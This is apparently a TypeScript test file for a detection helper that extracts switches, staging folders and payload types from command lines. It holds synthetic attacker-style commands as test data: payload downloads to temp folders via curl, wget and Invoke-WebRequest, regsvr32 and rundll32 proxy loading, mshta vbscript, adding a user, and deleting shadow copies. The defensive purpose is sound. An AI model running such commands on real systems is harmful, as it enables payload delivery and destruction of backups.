import { behaviourSwitchesOf, behaviourValues, isBareScheme } from './behaviour-values';

// Synthetic command lines; none comes from an article.
describe('behaviour values: what an engineer keys a program on besides its specific values', () => {
  it("keeps a download's output switch, its staging folder, the payload's type and `http` for the URL", () => {
    expect(
      behaviourValues('curl.exe', 'curl.exe -Lo C:\\Users\\ann\\AppData\\Local\\Temp\\q.msi https://dl.quill.example/q.msi', false),
    ).toEqual(['-Lo', '\\AppData\\Local\\Temp\\', '.msi', 'http']);
    expect(behaviourValues('wget', 'wget -q http://198.51.100.7/x.sh -O /tmp/x.sh', false)).toEqual(['-O', '/tmp/', '.sh', 'http']);
  });

  it("reads a cmdlet's output parameter and a variable folder as written", () => {
    expect(behaviourValues('powershell.exe', 'Invoke-WebRequest -OutFile %temp%\\doc.pdf http://203.0.113.9/doc.php', true)).toEqual([
      '-OutFile',
      '%temp%',
      '.pdf',
      'http',
    ]);
  });

  it('keeps a sub-command with its blanks, so it is not read inside another word', () => {
    expect(behaviourValues('net.exe', 'net use Z: \\\\files.quill.example@8443\\DavWWWRoot\\', false)).toEqual([' use ']);
    expect(behaviourValues('net.exe', 'net user quill /add', false)).toEqual([]);
  });

  it("keeps a proxy binary's silent switch and an ordinal export, and nothing of a program it does not know", () => {
    expect(behaviourValues('regsvr32.exe', 'regsvr32 /s \\\\files.quill.example@SSL\\DavWWWRoot\\q.dll', false)).toEqual(['/s', '.dll']);
    expect(behaviourValues('rundll32.exe', 'rundll32 C:\\ProgramData\\q.dat,#1', false)).toEqual([',#1', '\\ProgramData\\', '.dat']);
    expect(behaviourValues('quill.exe', 'quill.exe --sync --fast', false)).toEqual([]);
  });

  it("never reads the program's own file name as a payload", () => {
    expect(behaviourValues('mshta.exe', 'C:\\Windows\\System32\\mshta.exe vbscript:Close(Execute("x"))', false)).toEqual(['vbscript:']);
  });

  it('tells a bare scheme from a URL', () => {
    expect(isBareScheme('https://')).toBe(true);
    expect(isBareScheme('http://')).toBe(true);
    expect(isBareScheme('https://quill.example/')).toBe(false);
  });
});

describe("a known technique's rule keys the switches every command line of it shows", () => {
  it('reads the switches of a program the table knows, and none of one it does not', () => {
    expect(behaviourSwitchesOf('vssadmin', 'vssadmin.exe delete shadows /all /quiet')).toEqual(['/all', '/quiet']);
    expect(behaviourSwitchesOf('schtasks', 'schtasks /Change /TN "\\Quill\\Refresh" /Disable')).toEqual(['/Change', '/Disable']);
    expect(behaviourSwitchesOf('quill', 'quill.exe /all')).toEqual([]);
  });
});
